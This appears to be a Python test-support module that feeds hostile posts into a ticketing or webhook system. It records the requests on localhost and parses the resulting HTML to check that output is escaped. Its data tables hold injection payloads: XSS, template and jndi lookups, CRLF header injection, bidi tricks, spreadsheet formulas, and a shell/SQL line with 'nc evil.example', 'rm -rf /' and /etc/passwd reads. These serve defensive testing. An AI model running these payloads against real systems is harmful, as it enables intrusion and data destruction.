"""Texts that try to be more than text, and readers that show whether one of them succeeded."""

import json
import socketserver
import threading
from html.parser import HTMLParser
from types import TracebackType
from typing import Any, Self

TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>\"'><b onmouseover=x>",
    "closing tags": "</p></article></main></template><!-- --><iframe src=javascript:alert(1)></iframe>",
    "mentions": "@everyone @here <!channel> <@U012345> [~accountid:1] @[~admin] cc: boss@firm.example",
    "escape sequences": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\x9b31m\x00\x08\x7f",
    "templates": "{{7*7}} {%include '/etc/passwd'%} ${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %> %(x)s {0.__class__} %n%s",
    "header injection": "Hello\r\nX-Evil: 1\r\nwebhook-id: forged\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
    "log forging": "dead\n2026-01-01 00:00:00,000 CRITICAL plaint: all is lost\r\n",
    "direction": "\u202epma\u202c \u2066abc\u2069 \u200f\u061c \u2028\u2029 \ufff9\U000e0041",
    "shell and SQL": "'; DROP TABLE tickets; -- $(reboot) `reboot` | nc evil.example 1 && rm -rf / ../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.example","click") +cmd|\' /C calc\'!A0',
}
ADDRESSES = (
    "javascript:alert(1)",
    "https://bank.example@evil.example/",
    "https://x.example/\r\nX-Evil: 1",
    "data:text/html,<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)',
    "//evil.example/a",
    "https://x.example/\u202eexe",
    "http://[::1",
    "file:///etc/passwd",
    " javascript:alert(1)",
)


def hostile_post(post_id: str, name: str) -> dict[str, Any]:
    """A post that says TEXTS[name] wherever something can be said."""
    text, number = TEXTS[name], list(TEXTS).index(name)
    said = text[:512]
    return {
        "id": post_id + said[:200],
        "text": text,
        "network": said,
        "source": said,
        "author": {"id": said, "handle": said + "h" * (512 - len(said)), "followers": 5},
        "brands": [said] * 3,
        "language": said[:35],
        "url": ADDRESSES[number % len(ADDRESSES)],
        "visibility": said,
        "conversation": {"root": said, "parent": said},
    }


class Recorder:
    """A receiver that keeps every request as it came, byte for byte, and answers 200."""

    def __init__(self) -> None:
        self.requests: list[tuple[bytes, bytes]] = []
        recorder = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                while head := _head(self.rfile):
                    length = next(
                        int(h.split(b":")[1]) for h in head.split(b"\r\n") if h.lower().startswith(b"content-le")
                    )
                    recorder.requests.append((head, self.rfile.read(length)))
                    self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, name="recorder")

    @property
    def port(self) -> int:
        """Where it listens on 127.0.0.1."""
        return int(self._server.server_address[1])

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def bodies(self) -> dict[str, dict[str, Any]]:
        """The tickets that came, by the id of their post."""
        found = [json.loads(body)["data"] for _, body in self.requests]
        return {data["post_id"]: data for data in found}


def _head(lines: Any) -> bytes:
    head = b""
    while (line := lines.readline()) not in (b"\r\n", b""):
        head += line
    return head


class Page(HTMLParser):
    """What a browser makes of a page: elements and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
